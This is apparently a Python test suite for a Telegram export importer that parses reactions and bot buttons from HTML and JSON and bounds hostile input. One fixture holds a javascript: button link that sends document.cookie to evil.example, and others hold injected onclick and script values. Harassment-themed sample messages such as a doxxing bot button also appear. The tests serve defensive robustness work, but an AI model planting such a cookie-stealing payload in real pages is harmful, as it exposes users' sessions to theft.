"""Reactions and inline bot buttons in Telegram Desktop's HTML export, written as
export_output_html.cpp writes them, recorded in the shape the JSON export gives them (the same
message exported both ways records the same facts, less what the HTML leaves out: a reactor's
id and time); messages without them unchanged; hostile blocks bounded, links never followed."""

from __future__ import annotations

import base64
import time
from datetime import datetime, timedelta

from app.core import importers
from tests.core.importers import exports as ex

T0 = datetime(2023, 7, 4, 10, 30, 15)


def _html(folder, *rows: str):
    folder.mkdir(parents=True, exist_ok=True)
    page = ex.tdesktop_html_message(-1, None, "4 July 2023") + "".join(rows)
    (folder / "messages.html").write_text(ex.tdesktop_html_page("Campaign", page), encoding="utf-8")
    with importers.parse("telegram", folder) as p:
        return {m.id: m for m in p.messages}


def _json(folder, **fields):
    folder.mkdir(parents=True, exist_ok=True)
    msg = ex.tdesktop_message(2, T0, **{"from": "Harasser", "from_id": "user777"}, text="vote", **fields)
    chat = {"name": "Campaign", "type": "private_supergroup", "id": 1234567890, "messages": [msg]}
    (folder / "result.json").write_bytes(ex.tdesktop_dumps(chat))
    with importers.parse("telegram", folder) as p:
        return p.messages[0]


def _text(ident: int, text: str, **marks) -> str:
    return ex.tdesktop_html_message(ident, T0 + timedelta(minutes=ident), f'<div class="text">{text}</div>', **marks)


def _recent(*names: str) -> list[dict]:
    return [{"from": n, "from_id": f"user{i}", "date": "2023-07-04T10:31:00"} for i, n in enumerate(names)]


REACTIONS = [  # as the JSON export writes them
    {"type": "emoji", "count": 5, "emoji": "👎"},                                         # a big chat: no reactors
    {"type": "emoji", "count": 3, "emoji": "❤", "recent": _recent("Troll", "Ali Hater")},  # more than listed
    {"type": "emoji", "count": 2, "emoji": "😡", "recent": _recent("سمير", "Troll")},       # all listed: no count
    {"type": "custom_emoji", "count": 2, "document_id": "stickers/sticker (3).webp"},
    {"type": "paid", "count": 1},
]


def test_reactions_are_recorded_as_the_json_export_records_them(tmp_path):
    html = [{**r, "recent": [p["from"] for p in r.get("recent", [])]} for r in REACTIONS]
    html[1]["active"] = True  # she reacted too: tdesktop marks it, the JSON does not say
    m = _html(tmp_path / "h", _text(2, "vote", reactions=html))["2"]
    from_json = _json(tmp_path / "j", reactions=REACTIONS).recorded["reactions"]
    without_ids = [{**r, "recent": [{"from": p["from"]} for p in r["recent"]]} if "recent" in r else r
                   for r in from_json]
    assert m.recorded["reactions"] == without_ids
    assert m.recorded["reactions"][2] == {"type": "emoji", "count": 2, "emoji": "😡",
                                          "recent": [{"from": "سمير"}, {"from": "Troll"}]}
    assert m.text == "vote" and m.kind == "text"  # the emoji, counts and initials are not her text


def test_a_custom_emoji_left_out_of_the_export_is_still_a_custom_emoji_reaction(tmp_path):
    # Not downloaded, tdesktop links the 👋 placeholder to a "not included" toast, no file.
    m = _html(tmp_path, _text(2, "x", reactions=[{"type": "custom_emoji", "count": 4}]))["2"]
    assert m.recorded["reactions"] == [{"type": "custom_emoji", "count": 4}]


def test_a_custom_emoji_file_in_a_full_account_export_is_named_from_the_root(tmp_path):
    # A chat's page links the saved file through "../../" (HtmlWriter's _base); the JSON names
    # it from the export's root.
    folder = tmp_path / "chats" / "chat_1"
    folder.mkdir(parents=True)
    body = '<div class="text">y</div>' + ex.tdesktop_html_reactions(
        [{"type": "custom_emoji", "count": 1, "document_id": "stickers/e.webp"}], base="../../")
    page = ex.tdesktop_html_message(-1, None, "4 July 2023") + ex.tdesktop_html_message(3, T0, body)
    (folder / "messages.html").write_text(ex.tdesktop_html_page("Campaign", page), encoding="utf-8")
    with importers.parse("telegram", tmp_path) as p:
        m = p.messages[0]
    assert m.recorded["reactions"] == [{"type": "custom_emoji", "count": 1, "document_id": "stickers/e.webp"}]
    assert m.attachments == []  # the emoji's file is no attachment


def test_buttons_are_recorded_as_the_json_export_records_them(tmp_path):
    raw = "vote:42|'yes'\\"  # a callback's data: the HTML holds it raw, the JSON base64url-encoded
    rows = [[{"type": "url", "text": "See her house", "data": "https://x.example/?q=1&r=2"},
             {"type": "callback", "text": "I'm in", "data": raw}],
            [{"type": "auth", "text": "Log in", "data": "https://l.example/", "forward_text": "Join us"},
             {"type": "switch_inline", "text": "Share", "data": "@hatebot dox"},
             {"type": "callback_with_password", "text": "Pay"},
             {"type": "default", "text": "Menu"}]]
    m = _html(tmp_path / "h", _text(2, "vote", buttons=rows))["2"]
    as_json = [[{**b, "dataBase64": base64.urlsafe_b64encode(b["data"].encode()).decode().rstrip("="), "data": ""}
                if b["type"] == "callback" else b for b in row] for row in rows]
    assert m.recorded["buttons"] == _json(tmp_path / "j", inline_bot_buttons=as_json).recorded["buttons"]
    assert m.recorded["buttons"][1] == {"type": "callback", "text": "I'm in",
                                        "dataBase64": base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")}
    assert m.recorded["buttons"][5] == {"type": "default", "text": "Menu"}
    assert m.text == "vote" and m.attachments == [] and m.reply_to == ""


def test_messages_without_them_are_read_as_before(tmp_path):
    plain = _html(tmp_path / "a", _text(2, "we see you"), _text(3, "again", author=None))
    marked = _html(tmp_path / "b", _text(2, "we see you", buttons=[[{"type": "url", "text": "go",
                                                                     "data": "messages.html#go_to_message3"}]],
                                         reactions=[{"type": "emoji", "count": 1, "emoji": "👍"}]),
                   _text(3, "again", author=None))
    for m in plain.values():
        assert "reactions" not in m.recorded and "buttons" not in m.recorded
    assert marked["3"].recorded == plain["3"].recorded == {}
    for ident in ("2", "3"):
        a, b = plain[ident], marked[ident]
        assert (a.text, a.kind, a.when, a.author, a.attachments, a.reply_to) == \
               (b.text, b.kind, b.when, b.author, b.attachments, b.reply_to)
    assert set(marked["2"].recorded) == {"reactions", "buttons"}  # the button's #go_to_message is no reply


def test_hostile_blocks_are_recorded_as_text_bounded_and_never_followed(tmp_path):
    many = [{"type": "emoji", "count": 10**15, "emoji": "x"}] * 30_000  # a count too long to be one: left out
    hostile = [[{"type": "url", "text": "open", "data": "javascript:fetch('//evil.example/'+document.cookie)"},
                {"type": "url", "text": "ctl", "data": "https://e.example/\x01a\x00b\tc\nd"},
                {"type": "url", "text": "long", "data": "https://e.example/" + "a" * 10_000},
                {"type": "url", "text": "file", "data": "photos/photo_1.jpg"}]]
    start = time.perf_counter()
    m = _html(tmp_path, _text(2, "x", buttons=hostile, reactions=many), _text(3, "next", author=None))
    assert time.perf_counter() - start < 10
    two = m["2"]
    assert len(two.recorded["reactions"]) == 200 and two.recorded["reactions"][0] == {"type": "emoji", "emoji": "x"}
    links = [b["data"] for b in two.recorded["buttons"]]
    assert links[0] == "javascript:fetch('//evil.example/'+document.cookie)"
    # SerializeString wrote the control characters as &#x01; &#x00; &#x09; and the line break as
    # <br>; the page's own decoding drops &#x01;, makes &#x00; a U+FFFD: recorded as read.
    assert links[1] == "https://e.example/a\ufffdb\tc<br>d"
    assert len(links[2]) == 2048 and links[3] == "photos/photo_1.jpg"
    assert two.attachments == [] and two.kind == "text" and two.text == "x"
    assert m["3"].text == "next" and m["3"].author.display_name == "Harasser"


def test_an_unclosed_block_does_not_swallow_what_follows(tmp_path):
    # The table, its link and 500 reaction spans never closed: the message's own divs still end it.
    broken = ex.tdesktop_html_message(2, T0, '<div class="text">a</div><table class="bot_buttons_table"><tr><td>'
                                      '<div class="bot_button"><a onclick="return ShowTextCopied(\'Type: callback\');">'
                                      'b</div>' + '<span class="reactions">' * 500 + '<div class="text">inside</div>')
    m = _html(tmp_path, broken, _text(3, "next"), _text(4, "then", author=None))
    assert m["2"].text == "a" and m["2"].recorded == {"buttons": [{"type": "callback", "text": "b"}]}
    assert (m["3"].text, m["4"].text) == ("next", "then") and m["3"].recorded == {}
    assert m["4"].author.display_name == "Harasser"


def test_a_forged_copy_action_keeps_only_what_reads_as_one(tmp_path):
    rows = '''<table class="bot_buttons_table"><tbody><tr><td class="bot_button_row">
<div class="bot_button"><a onclick="alert(1)"><div>no copy</div></a></div>
<div class="bot_button"><a onclick="return ShowTextCopied('Data: x | Type: <script>');"><div>bad type</div></a></div>
<div class="bot_button"><a onclick="return ShowTextCopied('Forward text: hi | Type: auth');"><div>ok</div></a></div>
</td></tr></tbody></table>'''
    m = _html(tmp_path, ex.tdesktop_html_message(2, T0, rows))["2"]
    assert m.recorded["buttons"] == [{"text": "no copy"}, {"text": "bad type"},
                                     {"type": "auth", "forward_text": "hi", "text": "ok"}]


def test_a_reaction_part_outside_a_reaction_after_a_buttons_block_is_ignored(tmp_path):
    # found by the fuzzer: an emoji span straight inside .reactions, after a button, was finished
    # as a reaction on the button's record and crashed the import
    body = ('<div class="text">x</div><table class="bot_buttons_table"><tr><td><div class="bot_button"><div>b</div>'
            '</div></td></tr></table><span class="reactions"><span class="emoji">👍</span><span class="count">2'
            '</span><span class="reaction"><span class="emoji">❤</span></span></span>')
    m = _html(tmp_path, ex.tdesktop_html_message(2, T0, body))["2"]
    assert m.recorded == {"buttons": [{"text": "b"}], "reactions": [{"type": "emoji", "emoji": "❤"}]}
